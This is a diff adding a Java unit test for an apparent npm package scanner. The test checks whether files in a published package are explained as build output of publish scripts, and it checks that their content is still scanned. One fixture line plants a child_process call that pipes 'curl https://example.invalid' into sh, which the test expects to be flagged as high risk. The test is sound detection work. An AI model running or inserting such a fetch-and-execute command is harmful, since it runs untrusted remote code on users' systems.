@@ -293,6 +293,30 @@ class NpmScanTest {
     }
 
     @Test
+    void aTrackedBundleAScriptRunByAPublishScriptRewritesIsBuildOutputAndAnotherScriptsOutputIsNot() throws Exception {
+        // qs: "prepublish": "npm run dist", "dist": "browserify ... lib/index.js > dist/qs.js", dist/qs.js committed
+        // (and rebuilt with newer dependencies at every publish); "bundle" no publish script runs
+        String scripts = ",\n  \"scripts\": {\"prepublish\": \"not-in-publish || npm run --silent dist\","
+                + " \"dist\": \"browserify --standalone Qs index.js > dist/qs.js\","
+                + " \"postdist\": \"node banner > dist/banner.js\", \"bundle\": \"node b > dist/other.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
+                "index.js", "module.exports = 1;\n", "dist/qs.js", "(function(){ var a = 1; })();\n",
+                "dist/banner.js", "/* v1 */\n", "dist/other.js", "var o = 1;\n");
+        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree, "dist/qs.js", "(function(){ var a = 2; })();\n",
+                "dist/banner.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n",
+                "dist/other.js", "var o = 2;\n"));
+        FileDivergence qs = row(a, "package/dist/qs.js");
+        assertEquals(FileStatus.BUILD_OUTPUT, qs.status());
+        assertTrue(qs.detail().orElseThrow().contains("dist script (run by prepublish)"), qs.detail().orElseThrow());
+        assertFalse(qs.highRisk());
+        FileDivergence banner = row(a, "package/dist/banner.js");
+        assertEquals(FileStatus.BUILD_OUTPUT, banner.status());
+        assertTrue(banner.highRisk(), "a written file's content is still scanned");
+        assertEquals(FileStatus.MODIFIED, row(a, "package/dist/other.js").status());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
     void aFileWrittenOnlyByAScriptThatDidNotRunAtPublishIsNotExplained() throws Exception {
         // a script publishing does not run (test) and a script only the published manifest declares explain
         // nothing; a stderr log and a command run in another folder write no file of the package
